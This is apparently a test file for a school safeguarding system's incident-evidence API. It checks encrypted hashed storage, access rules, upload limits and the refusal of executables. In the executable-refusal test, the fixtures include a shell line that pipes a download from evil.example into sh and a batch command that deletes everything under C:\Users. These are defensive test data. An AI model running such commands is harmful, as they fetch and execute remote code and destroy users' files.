/**
 * Incident records through the API: evidence (R5.4, R10.2). A real app on a real database; incidents are reported
 * through the incident core's service, evidence is added and read over HTTP.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { ServiceContext } from '../src/platform/context.ts';
import { evidencePath } from '../src/incidents/evidence-files.ts';
import { reportIncident } from '../src/incidents/service.ts';
import { createTestApp, type Session, type TestApp } from './helpers/app.ts';

let t: TestApp;
let dsl: Session;
let head: Session;
let teacher: Session;
let dslId: string;

const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
const screenshot = Buffer.concat([PNG, Buffer.from('chat screenshot: "send me a photo and I will give you 500 Robux"')]);

function ctxFor(personId: string, label: string): ServiceContext {
  return { db: t.db, clock: t.clock, actor: { id: personId, label, schoolId: t.school.id } };
}

async function newIncident(opts: { category?: string; classification?: 'restricted' | 'general' } = {}) {
  return reportIncident(ctxFor(dslId, 'dsl'), {
    occurredAt: new Date(t.clock.now().getTime() - 3600_000).toISOString(), description: 'A Year 7 pupil was sent messages by an adult on a gaming site.',
    category: opts.category ?? 'grooming', classification: opts.classification ?? 'restricted',
  });
}

function upload(session: Session, incidentId: string, content: Buffer, name: string, extra = '') {
  return t.app.inject({
    method: 'POST', url: `/api/incidents/${incidentId}/evidence/files?name=${encodeURIComponent(name)}${extra}`,
    headers: { cookie: session.cookie, 'x-csrf-token': session.csrf, 'content-type': 'application/octet-stream' }, payload: content,
  });
}

async function auditActions(entityId: string): Promise<string[]> {
  return (await t.db.selectFrom('audit_log').select('action').where('entity_id', '=', entityId).orderBy('seq').execute()).map((r) => r.action);
}

before(async () => {
  t = await createTestApp({ config: { maxEvidenceBytes: 4096 } });
  const d = await t.makePerson(['dsl']);
  dslId = d.id;
  await t.makePerson(['headteacher'], { username: 'head' });
  await t.makePerson(['teacher'], { username: 'teacher' });
  dsl = await t.logIn(d.username);
  head = await t.logIn('head');
  teacher = await t.logIn('teacher');
});
after(() => t.close());

test('the DSL adds a screenshot: it is kept encrypted under its SHA-256, listed with its hash, and opening it is audited', async () => {
  const { id } = await newIncident();
  const res = await upload(dsl, id, screenshot, 'chat.png', '&note=Taken%20on%20the%20investigation%20laptop&device=Office%20laptop%20IT-0042');
  assert.equal(res.statusCode, 201, res.body);
  const item = res.json();
  const sha256 = createHash('sha256').update(screenshot).digest('hex');
  assert.equal(item.sha256, sha256);
  assert.equal(item.mediaType, 'image/png');
  assert.equal(item.device, 'Office laptop IT-0042');

  const onDisk = readFileSync(evidencePath(t.dataDir, sha256));
  assert.ok(!onDisk.includes(Buffer.from('500 Robux')), 'the evidence folder holds no readable copy');

  const list = await t.as(dsl, 'GET', `/api/incidents/${id}/evidence`);
  assert.equal(list.statusCode, 200);
  assert.deepEqual(list.json().evidence.map((e: { sha256: string; originalName: string; uploadedBy: string }) => [e.originalName, e.sha256]), [['chat.png', sha256]]);

  const opened = await t.as(dsl, 'GET', `/api/incidents/${id}/evidence/${item.id}/content`);
  assert.equal(opened.statusCode, 200);
  assert.deepEqual(opened.rawPayload, screenshot);
  assert.equal(opened.headers['x-evidence-sha256'], sha256);
  assert.equal(opened.headers['cache-control'], 'no-store');

  const actions = await auditActions(id);
  assert.ok(actions.includes('incident.evidence.add'));
  assert.ok(actions.includes('incident.evidence.list'));
  assert.ok(actions.includes('incident.evidence.open'));
  const history = await t.db.selectFrom('incident_history').select('summary').where('incident_id', '=', id).execute();
  assert.ok(history.some((h) => h.summary.includes(sha256)), 'the incident history names the evidence by its hash');
});

test('a web address is recorded as evidence with the SHA-256 of the address itself', async () => {
  const { id } = await newIncident();
  const url = 'https://games.example/chat/room/8812?user=stranger99';
  const res = await t.as(dsl, 'POST', `/api/incidents/${id}/evidence/urls`, { url, note: 'The chat room where the messages were sent' });
  assert.equal(res.statusCode, 201, res.body);
  assert.equal(res.json().sha256, createHash('sha256').update(url).digest('hex'));
  const bad = await t.as(dsl, 'POST', `/api/incidents/${id}/evidence/urls`, { url: 'games dot example' });
  assert.equal(bad.statusCode, 400);
  assert.match(bad.json().error.message, /not a web address/);
});

test('a file larger than the limit is refused with the limit and what to do instead', async () => {
  const { id } = await newIncident();
  const big = Buffer.concat([PNG, Buffer.alloc(5000, 1)]);
  const res = await upload(dsl, id, big, 'whole-screen.png');
  assert.equal(res.statusCode, 413);
  assert.equal(res.json().error.code, 'evidence_too_large');
  assert.match(res.json().error.message, /too large.*screenshot of just the part that matters/s);
});

test('programs are refused, whether their content or their name gives them away', async () => {
  const { id } = await newIncident({ category: 'viruses', classification: 'general' });
  const disguised = await upload(dsl, id, Buffer.from('MZ\x90\x00\x03\x00 this program cannot be run in DOS mode'), 'funny-picture.png');
  assert.equal(disguised.statusCode, 422);
  assert.equal(disguised.json().error.code, 'evidence_refused_executable');
  assert.match(disguised.json().error.message, /Windows program/);
  const elf = await upload(dsl, id, Buffer.from('\x7fELF\x02\x01\x01\x00'), 'notes.txt');
  assert.equal(elf.statusCode, 422);
  const script = await upload(dsl, id, Buffer.from('#!/bin/bash\ncurl evil.example | sh\n'), 'readme');
  assert.match(script.json().error.message, /script/);
  const batch = await upload(dsl, id, Buffer.from('del /q C:\\Users\\*'), 'cleanup.BAT');
  assert.equal(batch.statusCode, 422);
  assert.match(batch.json().error.message, /\.bat/);
  const list = await t.as(dsl, 'GET', `/api/incidents/${id}/evidence`);
  assert.equal(list.json().evidence.length, 0, 'nothing refused was stored');
});

test('nothing can be uploaded to a suspected child abuse images incident: the DSL is told why, and only the referral is recorded', async () => {
  const { id } = await newIncident({ category: 'child_abuse_images' });
  const res = await upload(dsl, id, screenshot, 'image.png');
  assert.equal(res.statusCode, 422);
  assert.equal(res.json().error.code, 'evidence_refused_csam');
  assert.match(res.json().error.message, /must never be uploaded, copied, viewed/);
  assert.match(res.json().error.message, /only the referral is recorded/);
  const list = await t.as(dsl, 'GET', `/api/incidents/${id}/evidence`);
  assert.equal(list.json().evidence.length, 0);
  assert.match(list.json().uploadsRefused, /child sexual abuse images/);
  const stored = await t.db.selectFrom('incident_evidence').select('id').where('incident_id', '=', id).execute();
  assert.equal(stored.length, 0);
});

test('evidence follows the incident\'s access: a headteacher cannot open a restricted record\'s evidence, a teacher none at all', async () => {
  const { id } = await newIncident();
  const item = (await upload(dsl, id, screenshot, 'chat.png')).json();
  const headList = await t.as(head, 'GET', `/api/incidents/${id}/evidence`);
  assert.equal(headList.statusCode, 404);
  const headOpen = await t.as(head, 'GET', `/api/incidents/${id}/evidence/${item.id}/content`);
  assert.equal(headOpen.statusCode, 404);
  const headUpload = await upload(head, id, screenshot, 'again.png');
  assert.equal(headUpload.statusCode, 404);
  const actions = await auditActions(id);
  assert.ok(actions.includes('incident.evidence_list_refused'));
  assert.ok(actions.includes('incident.evidence_open_refused'));
  assert.ok(actions.includes('incident.evidence_add_refused'));
  const teacherList = await t.as(teacher, 'GET', `/api/incidents/${id}/evidence`);
  assert.equal(teacherList.statusCode, 403);

  // A general incident's evidence is open to the headteacher, who may read and manage general incidents.
  const general = await newIncident({ category: 'online_gaming', classification: 'general' });
  const added = await upload(head, general.id, screenshot, 'game.png');
  assert.equal(added.statusCode, 201, added.body);
  assert.equal((await t.as(head, 'GET', `/api/incidents/${general.id}/evidence/${added.json().id}/content?download=true`)).headers['content-type'], 'application/octet-stream');
});

test('evidence rows cannot be changed or removed, even directly in the database', async () => {
  const { id } = await newIncident();
  await upload(dsl, id, screenshot, 'chat.png');
  await assert.rejects(t.db.updateTable('incident_evidence').set({ note: 'changed' }).where('incident_id', '=', id).execute(), /append-only/);
  await assert.rejects(t.db.deleteFrom('incident_evidence').where('incident_id', '=', id).execute(), /append-only/);
});
